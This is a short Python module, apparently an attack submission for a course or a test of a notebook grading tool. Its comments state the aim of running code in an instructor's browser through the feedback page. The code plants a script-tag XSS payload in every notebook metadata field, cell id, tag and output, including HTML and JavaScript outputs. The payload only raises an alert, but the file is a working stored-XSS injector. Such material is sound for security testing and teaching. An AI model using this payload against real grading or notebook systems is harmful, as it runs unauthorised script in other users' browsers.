# Goes for the reader of the feedback page: markup in titles, cell ids, tags, languages, kernels and stored outputs.
# Gains: code in the instructor's browser by a way that nobody looks at.
# hand-in: yes
# ruff: noqa
EVIL = "\"><script>alert('PWNED')</script>"


def change(notebook):
    notebook["metadata"].update(title=EVIL, authors=[{"name": EVIL}], widgets={EVIL: {}}, language_info={"name": EVIL, "pygments_lexer": EVIL, "mimetype": EVIL},
                                kernelspec={"name": EVIL, "display_name": EVIL, "language": EVIL})
    for number, cell in enumerate(notebook["cells"]):
        cell["id"] = f"{EVIL}{number}"
        cell["metadata"].update(tags=[EVIL], title=EVIL, collapsed=EVIL, jupyter={"source_hidden": EVIL})
        cell["outputs"] = [{"output_type": "display_data", "data": {"text/html": EVIL, "application/javascript": "alert('PWNED')"}, "metadata": {}}]
        cell["execution_count"] = EVIL
    return notebook
